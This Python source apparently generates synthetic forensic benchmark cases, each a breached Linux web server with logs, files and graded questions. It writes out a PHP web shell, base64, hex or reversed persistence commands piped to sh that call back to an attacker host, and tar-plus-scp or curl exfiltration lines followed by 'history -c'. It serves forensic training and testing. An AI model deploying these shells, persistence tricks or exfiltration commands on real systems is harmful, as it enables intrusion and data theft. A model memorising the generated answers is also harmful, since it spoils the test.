"""The visited server: days of logs and thousands of files of a Linux web server that somebody got into.

By the seed, the intruder guesses a password, brings a stolen key, or uploads a web shell; stays by a timer, a unit of
systemd, a profile or a key; and takes an archive away by scp, by curl, or through the web server. Others only try.
"""

import base64
import hashlib
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from swaplaw_forensic.synthetic.case import DAYS, Asked, Case, choose, counted, said, timed, working_days
from swaplaw_forensic.synthetic.dice import Dice
from swaplaw_forensic.synthetic.words import FIRST_NAMES, FOLDERS, STEMS, TOOLS, bad_host, called, dated, filler, packed

GUESSES = ("root", "admin", "test", "oracle", "deploy", "backup", "www", "git", "guest", "support", "mysql", "ftp")
ENTRIES, STAYS, THEFTS = ("guess", "key", "upload"), ("cron", "systemd", "profile"), ("scp", "curl", "web")
LOGINS_A_DAY, REQUESTS_A_DAY, PAGES = 160, 900, 1500


@dataclass
class Server:
    """A server in the making."""

    dice: Dice
    name: str
    people: list[str]
    login: list[tuple[datetime, str]] = field(default_factory=list)
    web: list[tuple[datetime, str]] = field(default_factory=list)
    flows: list[tuple[datetime, str]] = field(default_factory=list)
    files: dict[str, bytes] = field(default_factory=dict)

    def sshd(self, when: datetime, text: str, address: str) -> None:
        """Log what sshd says, and the connection that it says it of."""
        port = self.dice.between(30_000, 60_000)
        self.login.append((when, f"sshd[{self.dice.between(700, 9000)}]: {text} from {address} port {port} ssh2"))
        self.flow(when, address, port, 22, self.dice.between(2_000, 9_000))

    def flow(self, when: datetime, address: str, port: int, service: int, size: int, public: str = "") -> None:
        """Let the gateway note a connection: the address outside, and the one that the server sees."""
        self.flows.append((when, f"{public or address},{address},{port},{service},{size}"))

    def request(self, when: datetime, address: str, line: str, status: int, size: int = 0) -> None:
        """Log a request."""
        size = size or self.dice.between(200, 9000)
        self.web.append((when, f'{address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "{line} HTTP/1.1" {status} {size}'))


def build(dice: Dice, level: int) -> Case:
    """Tell the story and its questions."""
    start = datetime(2026, dice.between(1, 8), dice.between(1, 20), tzinfo=UTC)
    name = f"{dice.word(5)}-srv{dice.between(1, 9)}"
    server = Server(dice, name, [person.lower() for person in dice.pick_some(FIRST_NAMES, 6)])
    night = start + timedelta(days=DAYS[level] - 1, seconds=dice.between(3600, 5 * 3600))
    entry, stay, theft = dice.pick(ENTRIES), dice.pick(STAYS), dice.pick(THEFTS)
    _quiet(server, start, DAYS[level])
    _decoys(server, start, DAYS[level])
    outside = f"203.0.113.{dice.between(2, 250)}"
    # At the hardest level the server sees the gateway only; who was behind it stands in the gateway's own log.
    seen = outside if level < 3 else "10.0.0.1"
    pool = _entry(server, entry, night, seen, outside)
    way, more = _stay(server, stay, night + timedelta(minutes=dice.between(5, 20)), level)
    pool += more + _theft(server, theft, night + timedelta(minutes=dice.between(40, 90)), seen, outside, level)
    names = called(dice, level, "tar")
    prompt = (
        f"/evidence/{names[0]} holds files of a Linux web server. Somebody got in one night, arranged to come back, "
        "and took something away; others only tried, and administrators did their work. All logs are in UTC."
    )
    if level == 3:
        prompt += (
            f" The server sees connections from the internet as coming from its gateway; /evidence/{names[1]} is the "
            "log of that gateway (time, address outside, address inside, port inside, service, bytes)."
        )
    procedure = {"entry": entry, "stay": stay, "theft": theft, "code": way}
    return Case(names, prompt, choose(dice, pool), lambda: _evidence(server, start), procedure)


def _quiet(server: Server, start: datetime, days: int) -> None:
    """Fill the days: people at work, strangers who fail, visitors, and the files of a site and its people."""
    dice = server.dice
    for when in working_days(dice, start, days, LOGINS_A_DAY):
        if dice.below(3):
            server.sshd(when, f"Accepted publickey for {dice.pick(server.people)}", f"198.51.100.{dice.between(2, 40)}")
        else:
            guess = f"Failed password for invalid user {dice.pick(GUESSES)}"
            server.sshd(when, guess, f"192.0.2.{dice.between(2, 250)}")
    for when in working_days(dice, start, days, REQUESTS_A_DAY):
        line = f"GET /{dice.pick(FOLDERS)}/{dice.pick(STEMS)}{dice.between(1, 90)}.html"
        server.request(when, f"198.51.100.{dice.between(2, 250)}", line, 200 if dice.below(12) else 404)
    for number in range(PAGES):
        place, ending = ("var/www/html", "html") if number % 3 else (f"home/{dice.pick(server.people)}", "txt")
        folder = dice.pick(FOLDERS)
        server.files[f"{place}/{folder}/{dice.pick(STEMS)}{number}.{ending}"] = filler(dice, 200, 4000)
    for name in ("logrotate", "apt-compat", "e2scrub_all", "certbot", "sysstat"):
        server.files[f"etc/cron.d/{name}"] = f"25 6 * * * root /usr/sbin/{name} --quiet\n".encode()
        server.files[f"etc/systemd/system/{name}.service"] = f"[Service]\nExecStart=/usr/sbin/{name}\n".encode()
        server.files[f"etc/profile.d/{name}.sh"] = f"export {name.upper().replace('-', '_')}=1\n".encode()


def _decoys(server: Server, start: datetime, days: int) -> None:
    """Add who looks like the intruder: a loud stranger who never gets in, a traveller, a scanner, an administrator."""
    dice = server.dice
    loud, traveller, scanner = (f"203.0.113.{n}" for n in dice.pick_some(range(2, 250), 3))
    for when in working_days(dice, start, days, 30):
        server.sshd(when, f"Failed password for {dice.pick([*server.people, 'root'])}", loud)
        shell = f"{dice.pick(('wp', 'xmlrpc', 'shell', 'cmd', 'up'))}{dice.word(3)}"
        server.request(when, scanner, f"GET /{shell}.php?c=id", 404)
    person, admin = server.people[1], server.people[2]
    for when in working_days(dice, start, days, 2):
        server.sshd(when, f"Accepted password for {person}", traveller)
    server.files[f"home/{person}/mail/sent"] = f"I am abroad this week and will log in from {traveller}.\n".encode()
    server.files[f"home/{admin}/.bash_history"] = (
        f"sudo useradd -m report{dice.word(3)}\nwget https://tools.example/backup.bin -O /opt/backup\n"
        "sudo cp backup.cron /etc/cron.d/backup\nscp /srv/weekly.tgz store.example:/weekly/\n"
    ).encode()
    server.files["etc/cron.d/backup"] = b"0 3 * * 0 root echo L29wdC9iYWNrdXAgLS13ZWVrbHkK | base64 -d | sh\n"
    server.files["opt/backup"] = b"\x7fELF\x02\x01\x01\0" + dice.bytes(9_000)


def _entry(server: Server, entry: str, night: datetime, seen: str, outside: str) -> list[Asked]:
    """Let the intruder in."""
    dice, victim = server.dice, server.people[0]
    pool = [said("address", "From which public IP address did the intruder come?", outside, tier="exact",
                 level=3 if seen != outside else 1)]  # fmt: skip
    when = night
    if entry == "upload":
        folder = dice.pick(("uploads", "media", "assets"))
        path = f"/{folder}/{dice.pick(('thumb', 'cache', 'avatar'))}_{dice.word(4)}.php"
        server.request(when, seen, f"POST /{folder}/", 201)
        count = dice.between(6, 25)
        for _ in range(count):
            when += timedelta(seconds=dice.between(3, 50))
            server.request(when, seen, f"GET {path}?c={dice.word(6)}", 200)
        server.flow(night, seen, dice.between(30_000, 60_000), 80, 9_000, outside)
        server.files[f"var/www/html{path}"] = b"<?php system($_GET['c']); ?>\n"
        pool += [
            said("shell", "Which path on the web server has the intruder's web shell?", path),
            counted("commands", "How many requests with a command did the web shell get?", count, 2, "shell"),
        ]
    else:
        failed = dice.between(25, 90) if entry == "guess" else 0
        for _ in range(failed):
            when += timedelta(seconds=dice.between(1, 5))
            server.sshd(when, f"Failed password for {victim}", seen)
        when += timedelta(seconds=dice.between(2, 9))
        way = "password" if entry == "guess" else "publickey"
        server.sshd(when, f"Accepted {way} for {victim}", seen)
        server.flows[-1] = (when, server.flows[-1][1].replace(seen, outside, 1))
        pool.append(
            said("account", "With which account did the intruder log in over SSH?", victim, level=2, on="address")
        )
        if failed:
            text = "How many password attempts on that account failed in the hour before the intruder got in?"
            pool.append(counted("failures", text, failed, 2, "account"))
    pool.append(timed("entered", "When did the intruder get in: the first log-in or upload that worked (UTC)?",
                      night if entry == "upload" else when, 2, "address"))  # fmt: skip
    return pool


def _stay(server: Server, stay: str, when: datetime, level: int) -> tuple[str, list[Asked]]:
    """Put a program in place, and what starts it again."""
    dice, tool = server.dice, server.dice.pick(TOOLS)
    place = f"{dice.pick(('tmp', 'var/tmp', 'dev/shm', 'opt', 'usr/lib'))}/.{dice.word(5)}/{tool}"
    program = b"\x7fELF\x02\x01\x01\0" + dice.bytes(dice.between(5_000, 12_000))
    server.files[place] = program
    callback = f"{bad_host(dice)}:{dice.between(4000, 9999)}"
    way, line = _coded(dice, f"/{place} --connect {callback} --quiet", level)
    name = dice.word(6)
    starts = {
        "cron": (f"etc/cron.d/{name}", f"@reboot root {line}\n"),
        "systemd": (f"etc/systemd/system/{name}.service", f"[Service]\nExecStart=/bin/sh -c '{line}'\n"),
        "profile": (f"etc/profile.d/{name}.sh", f'[ -n "$PS1" ] && {{ {line}; }} &\n'),
    }
    file, content = starts[stay]
    server.files[file] = content.encode()
    server.login.append((when, f"sudo: www-data : COMMAND=/usr/bin/install {name} /{file}"))
    return way, [
        said("starter", "Which file starts the intruder's program again? Give its full path.", f"/{file}", level=2),
        said("callback", "To which host and port does the intruder's program connect (host:port)?", callback,
             level=min(level + 1, 3), on="starter", tier="exact"),
        said("program", "What is the SHA-256 of the intruder's program?", hashlib.sha256(program).hexdigest(),
             level=2, on="starter"),
    ]  # fmt: skip


def _coded(dice: Dice, command: str, level: int) -> tuple[str, str]:
    """Hide a shell command: plain at level 1, then in a code that varies. Return how, and the line that runs it."""
    way = "plain" if level == 1 else dice.pick(("base64", "hex", "reversed") if level == 3 else ("base64", "hex"))
    text = base64.b64encode(command.encode()).decode()
    lines = {
        "plain": command,
        "base64": f"echo {text} | base64 -d | sh",
        "hex": f"echo {command.encode().hex()} | xxd -r -p | sh",
        "reversed": f"echo {text[::-1]} | rev | base64 -d | sh",
    }
    return way, lines[way]


def _theft(server: Server, theft: str, when: datetime, seen: str, outside: str, level: int) -> list[Asked]:
    """Take an archive away."""
    dice, victim = server.dice, server.people[0]
    archive, size = f"{dice.pick(STEMS)}_{dice.word(4)}.tgz", dice.between(100_000, 9_000_000)
    target = bad_host(dice)
    packed = f"/tmp/{archive}"
    lines = {
        "scp": f"tar czf {packed} /srv/data && scp {packed} drop@{target}:in/ && rm {packed}",
        "curl": f"tar czf {packed} /srv/data && curl -s -T {packed} https://{target}/in/ && rm {packed}",
        "web": f"tar czf /var/www/html/static/{archive} /srv/data",
    }
    server.files[f"home/{victim}/.bash_history"] = f"ls\ncd sites\ngit pull\nid\n{lines[theft]}\nhistory -c\n".encode()
    pool = [said("archive", "What is the file name of the archive that was taken away?", archive, level=2)]
    port = dice.between(30_000, 60_000)
    if theft == "web":
        server.request(when, seen, f"GET /static/{archive}", 200, size)
        server.flow(when, seen, port, 80, size, outside)
        pool.append(counted("bytes", "How many bytes had the answer with which the archive left?", size, 2, "archive"))
    else:
        server.flow(when, seen, port, 22 if theft == "scp" else 443, size, target)
        pool.append(said("target", "To which host was the archive sent?", target, level=2, on="archive"))
        if level == 3:
            text = "How many bytes did the connection have that carried the archive, by the gateway's log?"
            pool.append(counted("bytes", text, size, 3, "target"))
    return pool


def _evidence(server: Server, start: datetime) -> tuple[bytes, ...]:
    login = [f"{when:%Y-%m-%dT%H:%M:%S}+00:00 {server.name} {text}" for when, text in sorted(server.login)]
    people = enumerate(server.people, start=1000)
    accounts = [f"{name}:x:{uid}:{uid}::/home/{name}:/bin/bash" for uid, name in people]
    files = {
        **server.files,
        "var/log/auth.log": _lines(login),
        "var/log/nginx/access.log": _lines([text for _, text in sorted(server.web)]),
        "etc/passwd": _lines(accounts),
    }
    return packed(files, start), dated(sorted(server.flows))


def _lines(lines: Sequence[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode()
